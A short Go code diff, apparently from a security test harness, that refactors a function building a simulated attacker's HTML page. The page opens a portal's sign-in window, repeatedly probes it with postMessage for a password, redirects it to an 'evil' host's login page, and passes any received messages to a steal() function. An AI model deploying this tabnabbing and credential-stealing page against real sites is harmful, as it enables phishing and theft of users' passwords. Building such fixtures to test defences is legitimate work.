@@ -221,11 +221,13 @@ func (p *Portal) senders() []trick {
 // window is the attacker's page that opens the portal's sign-in page, keeps its hands
 // on the window, and leads it away when somebody might be typing.
 func (p *Portal) window() string {
-	html := p.thief() + fmt.Sprintf(`<title>Prize</title><button onclick="w = window.open(%q, 'w')">Open the portal</button>`, p.base("portal")+"/login")
+	var html strings.Builder
+	html.WriteString(p.thief())
+	fmt.Fprintf(&html, `<title>Prize</title><button onclick="w = window.open('%s', 'w')">Open the portal</button>`, p.base("portal")+"/login")
 	for _, wait := range []int{100, 500, 1500} {
-		html += fmt.Sprintf(`<button onclick="setInterval(() => { try { w.postMessage('password?', '*'); w.location = evil + '/login' } catch {} }, %d)">Wait %d</button>`, wait, wait)
+		fmt.Fprintf(&html, `<button onclick="setInterval(() => { try { w.postMessage('password?', '*'); w.location = evil + '/login' } catch {} }, %d)">Wait %d</button>`, wait, wait)
 	}
-	return html + `<script>let w; addEventListener('message', e => steal(JSON.stringify(e.data)))</script>`
+	return html.String() + `<script>let w; addEventListener('message', e => steal(JSON.stringify(e.data)))</script>`
 }
 
 func (p *Portal) hostile() {
